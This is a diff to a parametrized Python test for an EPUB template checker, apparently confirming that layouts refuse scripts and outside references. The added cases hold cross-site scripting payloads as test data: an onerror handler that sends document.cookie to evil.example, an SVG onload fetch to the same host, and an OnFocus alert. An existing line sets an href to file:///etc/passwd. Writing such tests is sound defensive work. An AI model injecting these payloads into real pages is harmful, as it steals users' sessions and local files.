@@ -225,6 +225,15 @@ def overridden(workdir: Path, name: str, layout: str, line: int, written: str) -
      "<?xml-stylesheet?>"),
     ("item.xhtml.j2", '<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
                       'to="file:///etc/passwd"/></a></svg>', "<set>"),
+    # An event handler is a script, whatever it is on and however it is spelt.
+    ("item.xhtml.j2", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" '
+                      'onerror="window.location=\'https://evil.example/?\'+document.cookie"/>',
+     "onerror"),
+    ("item.xhtml.j2", '<svg xmlns="http://www.w3.org/2000/svg" '
+                      'onload="fetch(\'https://evil.example/\')"><rect/></svg>',
+     "onload"),
+    ("base.xhtml.j2", '<meta name="viewport" content="width=device-width" OnFocus="alert(1)"/>',
+     "OnFocus"),
 ])
 def test_an_epub_layout_refers_only_to_the_books_own_files(workdir, capsys, template, written,
                                                           reference):
